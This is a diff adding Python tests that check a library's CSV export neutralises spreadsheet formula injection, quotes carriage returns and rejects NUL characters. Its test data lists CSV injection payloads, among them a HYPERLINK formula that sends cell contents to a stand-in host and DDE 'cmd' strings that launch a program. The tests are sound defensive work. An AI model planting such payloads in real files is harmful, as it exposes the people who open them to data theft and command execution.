@@ -1,5 +1,8 @@
 """Files, DataFrames and peer libraries: round trips and interop (tests/cpp/test_io.cpp is the C++ twin)."""
 
+import csv
+import io
+import re
 import shutil
 import subprocess
 from pathlib import Path
@@ -426,3 +429,75 @@ def test_a_file_wijknet_does_not_read_says_what_to_pass_instead(tmp_path, name, 
     with pytest.raises(wijknet.InvalidValueError, match="cannot tell the format from the extension") as caught:
         wijknet.read(path)
     assert hint in str(caught.value)
+
+
+# ---------------------------------------------------------------- CSV a spreadsheet opens (issue 25)
+
+#: Texts a spreadsheet would run (OWASP "CSV injection"), texts that only look like the quote that
+#: neutralises them, and line breaks a reader could take for the end of a row.
+HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''-x", "''", "'", "'s-Hertogenbosch", "-x",
+           "a\rb", "a\r\nb", "\r"]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_would_run(cell):
+    """True for a cell a spreadsheet evaluates: a formula start that is not simply a number."""
+    return cell.startswith(FORMULA_STARTS) and re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell) is None
+
+
+def csv_cells(text):
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+def hostile_alliance():
+    a = wijknet.Alliance()
+    a.add_wave("@T0", "=wave", "")
+    a.add_relation("+advies", "-advice", True)
+    for i, text in enumerate(HOSTILE):
+        # Names are read trimmed (a name never starts with a space or tab): the trimmed text.
+        a.add_stakeholder(f"={i}" if i % 2 else f"-s{i}", name=text.strip(" \t") or "x", kind="person",
+                          roles=["wijkagent"], attributes={"=note": text, "score": -0.5 - i})
+    a.add_tie("=1", "-s0", "+advies", "@T0", 2, attributes={"note": "-1-1"})
+    return a
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_the_folder_reads_back(tmp_path):
+    a = hostile_alliance()
+    wijknet.write(a, tmp_path / "out", include_sensitive=True)
+    for file in (tmp_path / "out").glob("*.csv"):
+        cells = csv_cells(file.read_text(encoding="utf-8"))
+        assert [c for c in cells if spreadsheet_would_run(c)] == [], file.name
+    text = (tmp_path / "out" / "stakeholders.csv").read_text(encoding="utf-8")
+    assert "'=note" in text.splitlines()[0] and ",-0.5\n" in text  # the header too; numbers stay numbers
+    back = wijknet.read(tmp_path / "out")
+    same_frames(a, back)
+    assert back.stakeholder("=1")["attributes"]["=note"] == "+cmd|' /C calc'!A0"
+    assert back.stakeholder("-s10")["attributes"]["=note"] == "'s-Hertogenbosch"
+    wijknet.write(back, tmp_path / "again", include_sensitive=True)
+    for file in (tmp_path / "out").glob("*.csv"):
+        assert (tmp_path / "again" / file.name).read_bytes() == file.read_bytes()
+
+
+def test_a_carriage_return_in_a_cell_is_quoted_so_the_folder_reads_back(tmp_path):
+    a = wijknet.Alliance()
+    a.add_stakeholder("coc", name="COC\rRivierstad", roles=["lhbti_organisatie"], attributes={"note": "a\rb"})
+    wijknet.write(a, tmp_path / "out")
+    assert b'"COC\rRivierstad"' in (tmp_path / "out" / "stakeholders.csv").read_bytes()
+    back = wijknet.read(tmp_path / "out")
+    assert back.stakeholder("coc")["name"] == "COC\rRivierstad"
+    assert back.stakeholder("coc")["attributes"]["note"] == "a\rb"
+
+
+def test_a_nul_character_is_refused_before_anything_is_written(tmp_path):
+    a = wijknet.Alliance()
+    a.add_stakeholder("coc", name="C\x00C", roles=["lhbti_organisatie"])
+    with pytest.raises(wijknet.InvalidValueError) as err:
+        wijknet.write(a, tmp_path / "out")
+    assert str(err.value) == ("stakeholders.csv: column 'name' of the row of 'coc' holds a NUL character (\\x00), "
+                              "which a CSV file cannot hold; remove it")
+    assert not (tmp_path / "out").exists()
+    b = wijknet.Alliance()
+    b.add_stakeholder("coc", roles=["lhbti_organisatie"], attributes={"no\x00te": 1})
+    with pytest.raises(wijknet.InvalidValueError, match=r"column name 'no\\x00te' holds a NUL"):
+        wijknet.write(b, tmp_path / "out")
